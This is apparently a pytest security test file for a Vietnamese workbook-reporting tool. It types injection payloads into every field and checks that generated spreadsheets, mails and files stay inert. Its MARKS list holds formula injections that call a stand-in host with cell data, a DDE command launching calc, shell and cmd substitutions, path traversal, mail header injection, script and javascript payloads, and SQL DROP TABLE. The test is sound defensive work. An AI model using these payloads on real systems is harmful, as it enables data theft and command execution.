"""Words of a workbook that would be commands, formulas, links or paths somewhere else: marks.

Every text people type holds marks that a shell, a spreadsheet, a mail or a terminal would act on;
all verbs are run on them, and everything they leave is searched for what came to life.
"""

import ast
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator, Sequence
from itertools import cycle
from pathlib import Path

import pytest

from danvan_xl.outgoing.contents import Contents, TargetRow, UnitRow
from danvan_xl.schema.columns import Kind
from danvan_xl.schema.registers import Register
from danvan_xl.schema.sheets import REGISTER_OF, REGISTERS
from danvan_xl.writing.template.workbook import write_workbook
from tests.mail_server import parsed
from tests.offices import INDICATORS

ROOT = Path(__file__).resolve().parents[2]
PAGE = ROOT / "docs" / "chu-thanh-lenh.md"
HOST = "ke-gian.example"
MARKS = {
    "link": f'=HYPERLINK("http://{HOST}/?x="&A1;"Bấm vào đây")',
    "web": f'=WEBSERVICE("http://{HOST}/")',
    "dde": "=cmd|' /C calc >danh-dau'!A0",
    "plus": f'+HYPERLINK("http://{HOST}")',
    "minus": f'-2+WEBSERVICE("http://{HOST}")',
    "at": f'@WEBSERVICE("http://{HOST}")',
    "wide": f'＝WEBSERVICE("http://{HOST}")',
    "out of quotes": f'x"&WEBSERVICE("http://{HOST}")&"',
    "out of a tab": f"x'!A1+WEBSERVICE(\"http://{HOST}\")+'",
    "shell": "$(touch danh-dau)`touch danh-dau`;touch danh-dau|touch danh-dau&touch danh-dau",
    "cmd": "%COMSPEC% & echo x > danh-dau ^& !TEMP!",
    "python": '");open("danh-dau","w");("{0.__class__}%s%(x)s',
    "path": "../../danh-dau",
    "windows path": "..\\..\\danh-dau",
    "drive": "C:\\danh-dau",
    "device": "CON",
    "mail": f"x\r\nBcc: ai@{HOST}\r\n\r\nthân",
    "script": f'"><script src="http://{HOST}/x.js"></script>',
    "scheme": f"javascript:location='http://{HOST}'",
    "sql": "'); DROP TABLE answers; --",
    "print": '&"Arial"&72&D&[Path]',
    "terminal": "x_x001B_[2J_x001B_]0;danh-dau_x0007_",
    "right to left": "x\u202egpj.slx",
}
# What a spreadsheet must have made of none of them.
ALIVE = re.compile(r"(?i)HYPERLINK|WEBSERVICE|cmd\||javascript|touch|danh-dau|ke-gian")
SHEET_FORMULA = re.compile(r"<f[ >][^<]*</f>|<f>[^<]*|<definedName[^<]*<|<formula[12]?>[^<]*")
STRING = re.compile(r'"(?:[^"]|"")*"')
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HEADERS = {"X-Unsent", "To", "Subject", "MIME-Version", "Content-Type"}
HEADERS |= {"Content-Transfer-Encoding"}
OF_INFO = ("own inbox", "gui", "gui to what is typed", "giao")
VERBS = {
    "kiem-tra": ("kiem-tra", "Nhan", "--so", "so.xlsx", "--phan-hoi", "Tra"),
    "tong-hop": ("tong-hop", "so.xlsx", "Nhan", "-o", "th.xlsx", "--nhac", "Nhac"),
    "own inbox": ("tong-hop", "so.xlsx", "-o", "th2.xlsx"),
    "gui": ("gui", "so.xlsx", "Nhan", "-o", "Gui", "--van-gui", "--den", "tinh@example.vn"),
    "gui to what is typed": ("gui", "so.xlsx", "Nhan", "-o", "Gui2", "--van-gui"),
    "giao": ("giao", "so.xlsx", "-o", "Giao", "--cho-phep-lech"),
    "nhan": ("nhan", "Nhan", "--vao", "Xep"),
}

pytestmark = pytest.mark.filterwarnings("ignore:Print area cannot be set to Defined name")


def row_of(register: Register, mark: str) -> dict[str, object]:
    columns = [column for column in register.sheet.columns if not column.computed]
    words = (Kind.TEXT, Kind.CODE, Kind.CHOICE, Kind.DATE)
    return {column.name: mark if column.kind in words else 1 for column in columns}


def office(folder: Path, fields: Sequence[str]) -> None:
    """Write a xã's workbook and two thôn's with marks wherever somebody may type words.

    `fields` are those of sheet Thông tin, of which there is one each.
    """
    marks = tuple(MARKS.values())
    name, parent, title, email, inbox = fields
    about = {"unit_code": "X1", "unit_name": f"Xã {name}", "level": "Xã", "year": 2026}
    about |= {"period": "Tháng 1", "secrecy": "Thường", "parent_name": parent, "inbox": inbox}
    about |= {"preparer_title": title, "recipient_email": email}
    own = [
        item._replace(code=f"{item.code}{at}", indicator=f"{item.indicator} {mark}", **more)
        for at, mark in enumerate(marks)
        for item, more in zip(
            INDICATORS, ({}, {"source": f"đếm tuyên truyền [nội dung = {mark}]"}), strict=True
        )
    ]
    targets = tuple(TargetRow(item, note=mark) for item, mark in zip(own, cycle(marks)))
    units = [UnitRow("X1.1", f"Thôn 1 {name}", "Thôn", email=email)]
    units += [
        UnitRow(f"{mark}{at}" if at else mark, f"Thôn {mark}", "Thôn", email=mark, note=mark)
        for at, mark in enumerate(marks)
    ]
    plans = {unit.code: INDICATORS[0].plan for unit in units}
    given = {item.code: plans for item in own}
    registers = {item.name: tuple(row_of(item, mark) for mark in marks) for item in REGISTERS}
    contents = Contents(about, targets, tuple(units), assignment=given, registers=registers)  # type: ignore[arg-type]
    write_workbook(folder / "so.xlsx", contents)
    (folder / "Nhan").mkdir()
    rows = tuple(
        TargetRow(item, (mark, *[None] * 11), note=mark) for item, mark in zip(own, cycle(marks))
    )
    thon = {"unit_name": f"Thôn 1 {name}", "level": "Thôn", "year": 2026}
    kept = {name: rows for name, rows in registers.items() if "Thôn" in REGISTER_OF[name].levels}
    for number, code in enumerate(("X1.1", name), start=1):
        contents = Contents(thon | {"unit_code": code}, rows, registers=kept)  # type: ignore[arg-type]
        write_workbook(folder / "Nhan" / f"thon {number}.xlsx", contents)


def run(folder: Path, *arguments: str) -> tuple[int, str]:
    command = [sys.executable, "-m", "danvan_xl", *arguments]
    done = subprocess.run(command, cwd=folder, capture_output=True, encoding="utf-8", check=False)
    return done.returncode, done.stdout + done.stderr


def alive_in(path: Path) -> Iterator[str]:
    """What of the marks would act: in formulas, links, names and headers of a workbook."""
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                yield from re.findall(r'Target="(?:http|file|javascript|\\\\)[^"]*"', text)
                continue
            assert "externalLink" not in name
            assert "ddeLink" not in text
            for formula in SHEET_FORMULA.findall(text):
                plain = STRING.sub("", formula.replace("&quot;", '"').replace("&amp;", "&"))
                yield from ALIVE.findall(plain)
            for part in re.findall(r"<(?:odd|even|first)(?:Header|Footer)>[^<]*", text):
                yield from re.findall(r"72&amp;D|\[Path\]|ke-gian", part)


_FIELDS = [tuple((*MARKS.values(), "", "")[at : at + 5]) for at in range(0, len(MARKS), 5)]


def assert_only_addresses(to: str) -> None:
    """Whom a letter goes to is seen, and nothing else stands there."""
    assert all(re.fullmatch(r"[\w.+-]+@[\w.-]+", one) for one in to.split(", ") if to), to


@pytest.mark.parametrize("fields", _FIELDS)
def test_no_mark_comes_to_life_anywhere(fields, tmp_path):
    folder = tmp_path / "may" / "viec"
    folder.mkdir(parents=True)
    office(folder, fields)
    before = set(tmp_path.rglob("*"))

    is_first = fields == _FIELDS[0]  # the others differ in sheet Thông tin alone
    verbs = VERBS.values() if is_first else [VERBS[name] for name in OF_INFO]
    for arguments in verbs:
        code, said = run(folder, *arguments)
        assert code in (0, 1, 2), said
        assert "lỗi chưa biết" not in said, said
        assert CONTROL.findall(said) == []

    made = set(tmp_path.rglob("*")) - before
    wanted = {"Tra", "Nhac", "Gui", "Giao", "Xep", "th.xlsx"}
    there = {path.relative_to(folder).parts[0] for path in made}
    assert there - {"Gui2", "th2.xlsx"} == (wanted if is_first else {"Gui", "Giao"})
    assert not any(path.name == "danh-dau" for path in made)
    assert made
    for path in made:
        if path.suffix == ".xlsx":
            assert list(alive_in(path)) == [], path
        if path.suffix == ".eml":
            letter = parsed(path.read_bytes())
            assert set(letter.keys()) <= HEADERS
            assert_only_addresses(str(letter["To"] or ""))


SINKS = {
    "subprocess": ("subprocess.run", "subprocess.Popen"),
    "startfile": ("startfile",),
    "hyperlink": ("Hyperlink", "external_hyper_links", "link_to"),
    "formula": ("write_formula", "write_array_formula", "write_dynamic_array_formula"),
    "name": ("define_name",),
    "header": ("set_header", "set_footer"),
    "list": ("data_validation",),
    "sql": ("execute",),
}
"""What hands a text on to something that acts on it."""


def sinks_in(path: Path) -> set[str]:
    """The kinds of sinks a module calls."""
    names = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute):
            names.add(node.attr)
            names.add(ast.unparse(node))
        elif isinstance(node, ast.Name | ast.Constant):
            names.add(str(node.id if isinstance(node, ast.Name) else node.value))
    return {kind for kind, words in SINKS.items() if names & set(words)}


def rows_of_page() -> list[list[str]]:
    lines = PAGE.read_text(encoding="utf-8").splitlines()
    rows = [[cell.strip() for cell in line[1:-1].split(" | ")] for line in lines if line[:1] == "|"]
    return rows[2:]


def test_the_page_lists_every_place_where_words_are_handed_on():
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("danvan_xl", "addin")
        for path in (ROOT / folder).rglob("*.py")
        if sinks_in(path)
    }
    listed = {name for row in rows_of_page() for name in re.findall(r"`([\w/]+\.py)`", row[2])}

    assert found - listed == set()
    assert {name for name in listed if not (ROOT / name).exists()} == set()


def test_every_place_of_the_page_names_a_guard_and_a_test_that_are_there():
    for place, _, _, guard, tests in rows_of_page():
        for name, module in re.findall(r"`(\w+)` \(`([\w/]+\.\w+)`\)", guard):
            assert name in (ROOT / module).read_text(encoding="utf-8"), (place, name)
        named = re.findall(r"`(tests/[\w/]+\.py)`", tests)
        assert named, place
        assert all((ROOT / name).exists() for name in named), place
